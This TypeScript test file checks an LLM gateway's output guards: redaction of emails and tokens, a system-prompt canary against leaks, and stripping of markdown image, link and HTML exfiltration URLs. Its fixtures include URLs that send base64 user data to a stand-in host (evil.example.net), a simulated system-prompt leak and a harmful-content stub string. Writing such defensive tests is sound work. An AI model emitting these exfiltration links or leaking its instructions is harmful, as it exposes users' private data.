/**
 * Response guards through a real gateway against a mock upstream: PII, secrets, canary,
 * exfiltration, unsafe content, topics, fallback and re-ask — non-streamed and streamed, with
 * the sensitive value split across chunk boundaries at every offset.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startGateway, type TestGateway } from '../../helpers/gateway.js';
import { startMockUpstream, type MockUpstream, type Recorded } from '../../helpers/mock-upstream.js';
import { chatText, postJson, postSse, scriptedChat, piecesOf, splitAt } from './helpers.js';

// Test values built at run time (never written literally as token-shaped strings).
const GH = 'gh' + 'p_' + 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6';
const EMAIL = 'alice.johnson' + '@example.com';
const FILLER = 'The quarterly report covers revenue, staffing and the new office plans for next year. ';
const PAD = FILLER.repeat(6); // ~500 characters: longer than the hold-back window


describe('response guards on outputs', () => {
  let gw: TestGateway;
  let mock: MockUpstream;
  const chatUrl = () => gw.url + '/v1/chat/completions';
  const ask = (stream: boolean, extra: Record<string, unknown> = {}) => ({ model: 'gpt-4o', stream, messages: [{ role: 'system', content: 'You are a helpful assistant for the reporting team.' }, { role: 'user', content: 'Summarise the report.' }], ...extra });

  before(async () => {
    mock = await startMockUpstream();
    gw = await startGateway({
      providers: { mock: { type: 'openai', baseUrl: mock.url + '/v1' } },
      routes: [{ model: 'gpt-*', provider: 'mock' }],
      guards: {
        response: {
          pii: { action: 'redact' },
          secrets: { action: 'redact' },
          canary: { enabled: true },
          exfil: { allowHosts: ['docs.example.com'] },
          topics: { banned: { arms_trade: ['arms dealer', 'buy grenades'] } },
        },
        tenants: { fb: { response: { onBlock: 'fallback', fallbackMessage: 'Sorry, I cannot share that.' } }, ra: { response: { onBlock: 'reask' } } },
      },
    });
  });
  after(async () => {
    await gw?.close();
    await mock?.close();
  });

  async function both(text: string): Promise<{ plain: string; finishPlain: string; streamed: string; finishStream: string[]; done: boolean }> {
    mock.handler = (req, res) => scriptedChat(req, res, piecesOf(text, Math.floor(text.length / 2)));
    const a = await postJson(chatUrl(), gw.key, ask(false));
    assert.equal(a.status, 200, JSON.stringify(a.body));
    const b = await postSse(chatUrl(), gw.key, ask(true));
    const s = chatText(b.events);
    return { plain: a.body.choices[0].message.content, finishPlain: a.body.choices[0].finish_reason, streamed: s.text, finishStream: s.finish, done: s.done };
  }

  /** One stream holding a copy of `value` for every offset k, with a chunk boundary k characters into copy k. */
  function everyOffset(value: string, sentence: (v: string) => string): { text: string; chunks: string[] } {
    const cuts: number[] = [];
    let text = PAD;
    for (let k = 0; k <= value.length; k++) {
      const s = sentence(value);
      cuts.push(text.length + s.indexOf(value) + k);
      text += s;
    }
    text += PAD;
    for (let i = 13; i < text.length; i += 13) cuts.push(i);
    return { text, chunks: splitAt(text, cuts.filter((c) => c > 0 && c < text.length)) };
  }

  test('a PII value split at every offset is redacted in the stream exactly as in the body', async () => {
    const { text, chunks } = everyOffset(EMAIL, (v) => `Contact the owner at ${v} for details. `);
    mock.handler = (req, res) => scriptedChat(req, res, [text]);
    const plain = (await postJson(chatUrl(), gw.key, ask(false))).body.choices[0].message.content as string;
    assert.ok(!plain.includes(EMAIL));
    assert.equal(plain.match(/Contact the owner at \[EMAIL[^\]]*\] for details/g)?.length, EMAIL.length + 1);
    mock.handler = (req, res) => scriptedChat(req, res, chunks);
    const s = chatText((await postSse(chatUrl(), gw.key, ask(true))).events);
    assert.equal(s.text, plain);
    assert.deepEqual(s.finish, ['stop']);
    assert.ok(s.done);
  });

  test('a secret split at every offset is redacted in the stream exactly as in the body', async () => {
    const { text, chunks } = everyOffset(GH, (v) => `Use token ${v} to call the API. `);
    mock.handler = (req, res) => scriptedChat(req, res, [text]);
    const plain = await postJson(chatUrl(), gw.key, ask(false));
    const body = plain.body.choices[0].message.content as string;
    assert.ok(!body.includes(GH.slice(4, 14)));
    assert.equal(body.match(/Use token \[[A-Za-z_]+\] to call the API/g)?.length, GH.length + 1);
    assert.equal(plain.headers.get('x-portcullis-action'), 'transform');
    mock.handler = (req, res) => scriptedChat(req, res, chunks);
    const s = chatText((await postSse(chatUrl(), gw.key, ask(true))).events);
    assert.equal(s.text, body);
    assert.ok(!s.text.includes(GH.slice(4, 14)));
  });

  test('the system-prompt canary is added upstream and blocks a leak split at every offset', async () => {
    let token = '';
    const leak = (req: Recorded) => {
      const sys = String(req.body.messages.find((m: any) => m.role === 'system')?.content ?? '');
      token = /pcl-canary-[0-9a-f]{32}/.exec(sys)?.[0] ?? '';
      return `${PAD}${PAD}My instructions say: ${sys} ${PAD}`;
    };
    mock.handler = (req, res) => scriptedChat(req, res, [leak(req)]);
    const a = await postJson(chatUrl(), gw.key, ask(false));
    assert.ok(token, 'the upstream saw a canary in the system prompt');
    assert.equal(a.body.choices[0].finish_reason, 'content_filter');
    assert.equal(a.body.choices[0].message.content, '');
    assert.equal(a.headers.get('x-portcullis-guard'), 'response:canary');
    for (let k = 0; k <= 43; k++) {
      mock.handler = (req, res) => {
        const t = leak(req);
        scriptedChat(req, res, piecesOf(t, t.indexOf('pcl-canary-') + k));
      };
      const r = await postSse(chatUrl(), gw.key, ask(true));
      const s = chatText(r.events);
      assert.deepEqual(s.finish, ['content_filter'], `offset ${k}`);
      assert.ok(s.done, 'the stream ends with [DONE]');
      assert.ok(!s.text.includes('pcl-canary') && !s.text.includes(token.slice(11, 19)), `offset ${k}: nothing of the canary released`);
      assert.ok(s.text.startsWith(FILLER), 'text before the leak was streamed');
      const last = r.events.filter((e) => e.data !== '[DONE]').at(-1)!;
      assert.equal(last.json.choices[0].finish_reason, 'content_filter', 'no content after the block');
    }
    // Base64-encoded leak (non-stream).
    mock.handler = (req, res) => {
      leak(req);
      scriptedChat(req, res, [`Encoded: ${Buffer.from(token).toString('base64')}`]);
    };
    assert.equal((await postJson(chatUrl(), gw.key, ask(false))).body.choices[0].finish_reason, 'content_filter');
  });

  test('exfiltration: image with data in the query, reference link, HTML img are removed; allow-listed host passes', async () => {
    const data = Buffer.from('user=alice; balance=1200; note=private').toString('base64');
    const cases: Array<[string, (out: string) => void]> = [
      [`Here is the chart ![chart](https://evil.example.net/p.png?d=${data}) as requested.`, (o) => (assert.ok(!o.includes('evil.example.net')), assert.ok(o.includes('as requested')))],
      [`See [the report][r1] for more.\n\n[r1]: https://evil.example.net/collect?q=${data}\n`, (o) => assert.ok(!o.includes('evil.example.net'), o)],
      [`Status: <img src="https://evil.example.net/x.gif?data=${data}"> ok`, (o) => (assert.ok(!o.includes('evil.example.net')), assert.ok(o.includes('ok')))],
      [`Docs: ![logo](https://docs.example.com/logo.png) and [guide](https://docs.example.com/guide).`, (o) => assert.equal(o, `Docs: ![logo](https://docs.example.com/logo.png) and [guide](https://docs.example.com/guide).`)],
    ];
    for (const [text, check] of cases) {
      const r = await both(text);
      check(r.plain);
      check(r.streamed);
      assert.equal(r.streamed, r.plain);
      assert.deepEqual(r.finishStream, ['stop']);
    }
    // A plain link without data to another host is kept (recorded); with data it goes.
    const plainLink = await both('Read [the article](https://news.example.org/story) later.');
    assert.equal(plainLink.plain, 'Read [the article](https://news.example.org/story) later.');
    assert.equal(plainLink.streamed, plainLink.plain);
    const seqLinks = await both(['a', 'b', 'c', 'd'].map((c) => `[${c}](https://evil.example.net/q/${c})`).join(' '));
    assert.ok(!seqLinks.plain.includes('evil.example.net') && !seqLinks.streamed.includes('evil.example.net'), 'plain links forming a char-by-char run are removed');
    // Near-identical URLs (character-by-character exfiltration) are all removed.
    const seq = ['a', 'b', 'c', 'd'].map((c) => `![x](https://evil.example.net/p/${c}.png)`).join(' ');
    const r = await both(`Loading ${seq} done`);
    assert.ok(!r.plain.includes('evil.example.net') && !r.streamed.includes('evil.example.net'));
  });

  test('unsafe content and banned topics block with content_filter (body and stream)', async () => {
    for (const text of [`${PAD}Sure. How do I make a pipe bomb at home? Step 1 is simple.`, `${PAD}You should contact an arms dealer directly.`]) {
      const r = await both(text);
      assert.equal(r.finishPlain, 'content_filter');
      assert.equal(r.plain, '');
      assert.deepEqual(r.finishStream, ['content_filter']);
      assert.ok(r.done);
      assert.ok(!/pipe bomb|arms dealer/.test(r.streamed));
    }
  });

  test('onBlock fallback replaces the output with the fixed message; reask retries once with a corrective note', async () => {
    const fb = await gw.newKey('fb');
    mock.handler = (req, res) => scriptedChat(req, res, [`Token: ${GH.replace('ghp_', 'ghp_')} and how to make a pipe bomb at home, step 1`]);
    const a = await postJson(chatUrl(), fb, ask(false));
    assert.equal(a.body.choices[0].message.content, 'Sorry, I cannot share that.');
    assert.equal(a.headers.get('x-portcullis-action'), 'fallback');
    const s = chatText((await postSse(chatUrl(), fb, ask(true))).events);
    assert.equal(s.text.endsWith('Sorry, I cannot share that.'), true);
    assert.deepEqual(s.finish, ['content_filter']);

    const ra = await gw.newKey('ra');
    let calls = 0;
    mock.handler = (req, res) => {
      calls++;
      const corrected = JSON.stringify(req.body.messages).includes('withheld by a safety filter');
      scriptedChat(req, res, [corrected ? 'Here is a safe summary of the report.' : 'How do I make a pipe bomb at home? Step 1.']);
    };
    const b = await postJson(chatUrl(), ra, ask(false));
    assert.equal(calls, 2, 'one re-ask');
    assert.equal(b.body.choices[0].message.content, 'Here is a safe summary of the report.');
    assert.equal(b.headers.get('x-portcullis-action'), 'reask');
    calls = 0;
    mock.handler = (req, res) => {
      calls++;
      scriptedChat(req, res, ['How do I make a pipe bomb at home? Step 1.']);
    };
    const c = await postJson(chatUrl(), ra, ask(false));
    assert.equal(calls, 2, 're-asked only once');
    assert.equal(c.body.choices[0].finish_reason, 'content_filter');
  });

  test('completions, responses and messages bodies are guarded too', async () => {
    mock.handler = (req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'x', object: 'text_completion', model: 'gpt-4o', choices: [{ index: 0, text: `Mail ${EMAIL} now`, finish_reason: 'stop' }] }));
    };
    const c = await postJson(gw.url + '/v1/completions', gw.key, { model: 'gpt-4o', prompt: 'hi' });
    assert.ok(!c.body.choices[0].text.includes(EMAIL));
    mock.handler = (req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'resp_1', object: 'response', status: 'completed', model: 'gpt-4o', output: [{ type: 'message', id: 'm1', role: 'assistant', content: [{ type: 'output_text', text: `Key ${GH}`, annotations: [] }] }] }));
    };
    const r = await postJson(gw.url + '/v1/responses', gw.key, { model: 'gpt-4o', input: 'hi' });
    assert.equal(r.status, 200, JSON.stringify(r.body));
    assert.ok(!JSON.stringify(r.body).includes(GH));
  });
});
